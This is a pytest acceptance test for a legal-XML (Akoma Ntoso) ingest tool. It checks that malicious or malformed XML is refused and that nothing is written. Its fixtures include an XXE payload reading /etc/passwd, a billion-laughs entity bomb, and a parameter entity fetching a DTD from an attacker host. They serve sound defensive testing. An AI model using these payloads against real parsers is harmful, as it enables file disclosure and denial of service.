"""Acceptance 3: hostile or malformed XML is refused with a one-line error and nothing is written."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from msez.cli import run
from msez.core import ValidationError
from msez.pack import parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<akomaNtoso><act><body><p eId="p_1">&xxe;</p></body></act></akomaNtoso>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<akomaNtoso><p eId="p_1">&lol9;</p></akomaNtoso>"""
NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso SYSTEM "http://dtd.example.org/akn.dtd">
<akomaNtoso><p eId="p_1">text</p></akomaNtoso>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://attacker.example.org/x.dtd"> %remote;]>
<a/>"""
NOT_WELL_FORMED = b"""<?xml version="1.0"?>
<akomaNtoso><act><body><p eId="p_1">unclosed</body></act></akomaNtoso>"""
UNDECLARED_ENTITY = b"""<akomaNtoso><p eId="p_1">&nbsp;</p></akomaNtoso>"""

CASES = [
    pytest.param(XXE, "refused: the document declares a DOCTYPE", id="external-entity"),
    pytest.param(BILLION_LAUGHS, "refused: the document declares a DOCTYPE", id="billion-laughs"),
    pytest.param(NETWORK_DTD, "refused: the document declares a DOCTYPE", id="network-dtd"),
    pytest.param(PARAMETER_ENTITY, "refused: the document declares a DOCTYPE", id="parameter-entity"),
    pytest.param(NOT_WELL_FORMED, r"not well-formed XML: .*\(line 2, column \d+\)", id="not-well-formed"),
    pytest.param(UNDECLARED_ENTITY, "not well-formed XML: Entity 'nbsp' not defined", id="undeclared-entity"),
]


@pytest.mark.parametrize(("payload", "message"), CASES)
def test_parser_refuses(payload: bytes, message: str) -> None:
    with pytest.raises(ValidationError, match=f"^akn/evil.xml: {message}"):
        parse_xml(payload, source="akn/evil.xml")


@pytest.mark.parametrize(("payload", "message"), CASES)
def test_ingest_refuses_with_one_line_and_writes_nothing(
    payload: bytes, message: str, module_dir: Path, repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (module_dir / "src/akn/zz-evil.xml").write_bytes(payload)
    before = sorted(p.relative_to(repo) for p in repo.rglob("*"))
    code = run(
        ["law", "ingest", str(module_dir), "--as-of-date", "2025-01-01", "--store", str(repo / "dist/artifacts")]
    )
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.count("\n") == 1
    assert captured.err.startswith("error: akn/zz-evil.xml: ")
    assert re.search(message, captured.err)
    assert sorted(p.relative_to(repo) for p in repo.rglob("*")) == before
